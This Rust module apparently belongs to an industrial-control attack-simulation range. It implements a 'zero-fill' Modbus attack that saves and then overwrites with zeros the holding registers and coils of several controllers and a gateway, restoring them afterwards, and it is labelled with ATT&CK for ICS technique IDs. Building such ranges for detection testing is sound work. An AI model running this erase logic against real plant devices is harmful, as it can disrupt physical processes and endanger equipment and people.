//! Zero fill: whole tables of several devices are overwritten with zeros.

use std::net::Ipv4Addr;

use super::{Attack, Needs, technique};
use crate::net::Fault;
use crate::net::reach::Reach;
use crate::plant::points::Table;
use crate::repair::Before;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "zero-fill",
    about: "overwrites the tables of several devices with zeros",
    technique: technique("T0809"),
    acceptable: &["T0855", "T1692.001", "T0831", "T0836"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["all", "registers", "coils"],
    needs: Needs::Sockets,
    seconds: [850, 60, 5],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let mut before = Before::default();
    let outcome = erase(&mut stage, &mut before).await;
    before.restored(&mut stage, 300.0);
    outcome
}

async fn erase(stage: &mut Stage, before: &mut Before) -> Outcome {
    let intruder = stage.stranger();
    let tables: &[Table] = match stage.variant {
        "registers" => &[Table::Holding],
        "coils" => &[Table::Coil],
        _ => &[Table::Holding, Table::Coil],
    };
    let most = stage.by(3, 4, 10);
    let mut devices = stage.controllers(most);
    devices.push(stage.gateway());
    for at in devices {
        let mut master = intruder.reach(at);
        for unit in stage.units(at) {
            for &table in tables {
                let size = measure(stage, &mut master, before, (at, unit, table)).await?;
                fill(stage, &mut master, (at, unit, table), size).await?;
            }
        }
        stage.pause(stage.by(60.0, 4.0, 0.1)).await;
    }
    Ok(())
}

/// How far a table reaches, read in blocks.
async fn measure(
    stage: &mut Stage,
    master: &mut Reach,
    before: &mut Before,
    (at, unit, table): (Ipv4Addr, u8, Table),
) -> Result<u16, Fault> {
    let mut size = 0;
    while size < FARTHEST {
        let Some(words) = master.words(unit, table, size, BLOCK).await? else { break };
        before.keep(at, unit, table, size, words);
        size += BLOCK;
        stage.pause(stage.by(5.0, 0.2, 0.01)).await;
    }
    Ok(size)
}

/// Writes zeros from the beginning of a table on.
async fn fill(
    stage: &mut Stage,
    master: &mut Reach,
    (at, unit, table): (Ipv4Addr, u8, Table),
    size: u16,
) -> Outcome {
    let block = stage.by(BLOCK, 2 * BLOCK, 7 * BLOCK);
    for first in (0..size).step_by(block.into()) {
        let count = block.min(size - first);
        master.put_words(unit, table, first, &vec![0; count.into()]).await?;
        stage.changed(format!("{at} unit {unit} {table:?} {first} to {} = 0", first + count - 1));
        stage.pause(stage.by(20.0, 0.8, 0.02)).await;
    }
    Ok(())
}

/// So many words or bits are looked at together.
const BLOCK: u16 = 16;
/// Nobody looks beyond this.
const FARTHEST: u16 = 1024;
